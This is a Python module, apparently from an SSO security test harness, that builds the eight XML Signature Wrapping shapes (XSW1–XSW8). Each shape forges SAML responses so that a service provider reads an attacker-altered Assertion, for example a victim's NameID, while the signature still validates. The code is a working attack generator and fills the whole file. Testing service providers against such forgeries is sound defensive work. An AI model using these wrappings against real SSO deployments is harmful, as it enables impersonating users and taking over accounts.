"""XML Signature Wrapping, the eight shapes SAML Raider mounts (XSW1 to XSW8).

Each shape keeps a signature *valid* while moving the signed content to a
place the SP does not read, and puts an evil copy where a careless SP does
read. An SP is safe when it consumes exactly the element its verified
signature covers (SAML core §5.4.2); see Somorovsky et al., "On Breaking
SAML" (2012). The shapes, in our words:

XSW1/XSW2 target a signed *Response*: the root becomes the evil Response
under a fresh ID, and an unsigned copy of the original Response (with the
original ID, so the signature still resolves to it) goes inside the
Signature (XSW1) or just before it (XSW2).

XSW3 to XSW8 target a signed *Assertion*:

* XSW3: an unsigned evil copy under a fresh ID goes before the original.
* XSW4: the evil copy replaces the original, which moves inside it.
* XSW5: the original turns evil in place (fresh ID, its Signature kept); a
  clean unsigned copy with the original ID is appended to the Response.
* XSW6: as XSW5, but the clean copy goes inside the evil one's Signature.
* XSW7: an evil copy keeping the original ID goes into ``samlp:Extensions``
  before the original.
* XSW8: the original turns evil in place (same ID); a clean copy goes into a
  ``ds:Object`` inside its Signature.

``evil`` is the change the attacker wants read (e.g. the victim's NameID).
Every function returns a new tree; the input is not modified. A response
without the signature a shape needs raises :class:`XswNotApplicable`, with
a code: :data:`NO_RESPONSE_SIGNATURE` (XSW1/2: e.g. Entra signs only the
Assertion by default) or :data:`NO_ASSERTION_SIGNATURE` (XSW3 to XSW8): the
attack does not apply to such responses. A response whose Assertion the
attacker cannot read (encrypted) raises :class:`XswNotMountable` instead:
the attack may apply, the harness just cannot mount it.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from lxml import etree

from sso_harness.apps.security.verdicts import AttackNotApplicable
from sso_harness.apps.security.saml_xml import (
    clone,
    ds,
    first_assertion,
    fresh_id,
    remove,
    samlp,
    signature_over,
)

__all__ = ["XswNotApplicable", "XswNotMountable", "Evil", "XSW", "wrap", "response_signed", "assertion_signed",
           "NO_RESPONSE_SIGNATURE", "NO_ASSERTION_SIGNATURE"]

NO_RESPONSE_SIGNATURE = "security.not_applicable.no_response_signature"
NO_ASSERTION_SIGNATURE = "security.not_applicable.no_assertion_signature"


Evil = Callable[[etree._Element], None]
"""Rewrites an Assertion in place (the attacker's change)."""


class XswNotApplicable(AttackNotApplicable):
    """The response lacks the signature this wrapping shape abuses (``code`` says which)."""


class XswNotMountable(ValueError):
    """The response carries no plaintext Assertion (e.g. an encrypted one) for the attacker to alter."""


def response_signed(response: etree._Element) -> bool:
    return signature_over(response) is not None


def assertion_signed(response: etree._Element) -> bool:
    assertion = first_assertion(response)
    return assertion is not None and signature_over(assertion) is not None


@dataclass(frozen=True)
class _Shape:
    """One wrapping shape, as data.

    ``response``: the shape wraps the Response signature (XSW1/2), else the
    Assertion's. An unsigned copy of the signed element is made; ``evil_copy``
    says whether the copy carries the attacker's change (else the signed
    original does and the copy stays clean), ``fresh_id`` whether the evil
    element gets a new ID, and ``place`` puts the copy into the tree.
    """

    response: bool
    evil_copy: bool
    fresh_id: bool
    place: Callable[[etree._Element, etree._Element, etree._Element, etree._Element], None]
    """``place(response, signed element, its Signature, copy)``."""


def _before(root: etree._Element, signed: etree._Element, signature: etree._Element, copy: etree._Element) -> None:
    signed.addprevious(copy)


def _before_holding_original(root: etree._Element, signed: etree._Element, signature: etree._Element,
                             copy: etree._Element) -> None:
    signed.addprevious(copy)
    remove(signed)
    signed.tail = None
    copy.append(signed)


def _in_extensions(root: etree._Element, signed: etree._Element, signature: etree._Element, copy: etree._Element) -> None:
    extensions = etree.Element(samlp("Extensions"))
    signed.addprevious(extensions)
    extensions.append(copy)


def _in_object(root: etree._Element, signed: etree._Element, signature: etree._Element, copy: etree._Element) -> None:
    etree.SubElement(signature, ds("Object")).append(copy)


XSW: dict[int, _Shape] = {
    1: _Shape(response=True, evil_copy=False, fresh_id=True, place=lambda root, s, sig, copy: sig.append(copy)),
    2: _Shape(response=True, evil_copy=False, fresh_id=True, place=lambda root, s, sig, copy: sig.addprevious(copy)),
    3: _Shape(response=False, evil_copy=True, fresh_id=True, place=_before),
    4: _Shape(response=False, evil_copy=True, fresh_id=True, place=_before_holding_original),
    5: _Shape(response=False, evil_copy=False, fresh_id=True, place=lambda root, s, sig, copy: root.append(copy)),
    6: _Shape(response=False, evil_copy=False, fresh_id=True, place=lambda root, s, sig, copy: sig.append(copy)),
    7: _Shape(response=False, evil_copy=True, fresh_id=False, place=_in_extensions),
    8: _Shape(response=False, evil_copy=False, fresh_id=False, place=_in_object),
}


def _signed(root: etree._Element, response: bool) -> tuple[etree._Element, etree._Element]:
    """The element a shape wraps and its Signature; XswNotApplicable without one."""
    if response:
        signature = signature_over(root)
        if signature is None:
            raise XswNotApplicable(NO_RESPONSE_SIGNATURE, "the Response itself is not signed, only what it carries "
                                   "(XSW1/XSW2 wrap a Response-level signature)")
        return root, signature
    assertion = first_assertion(root)
    if assertion is None:
        raise XswNotMountable("the Response carries no plaintext Assertion to wrap")
    signature = signature_over(assertion)
    if signature is None:
        raise XswNotApplicable(NO_ASSERTION_SIGNATURE, "the Assertion is not signed (XSW3 to XSW8 wrap an Assertion signature)")
    return assertion, signature


def _unsigned_copy(element: etree._Element) -> etree._Element:
    copy = clone(element)
    copy.tail = None
    remove(signature_over(copy))
    return copy


def _make_evil(element: etree._Element, evil: Evil, *, response: bool) -> None:
    if not response:
        evil(element)
        return
    assertion = first_assertion(element)
    if assertion is None:
        raise XswNotMountable("the Response carries no plaintext Assertion to alter")
    evil(assertion)


def wrap(n: int, signed: etree._Element, evil: Evil) -> etree._Element:
    """Apply XSW shape ``n`` (1 to 8) to the signed Response ``signed``."""
    try:
        shape = XSW[n]
    except KeyError:
        raise ValueError(f"no XSW shape {n}; shapes are 1 to 8") from None
    root = clone(signed)
    original, signature = _signed(root, shape.response)
    copy = _unsigned_copy(original)
    target = copy if shape.evil_copy else original
    _make_evil(target, evil, response=shape.response)
    if shape.fresh_id:
        target.set("ID", fresh_id("_evil_response" if shape.response else "_evil_assertion"))
    shape.place(root, original, signature, copy)
    return root
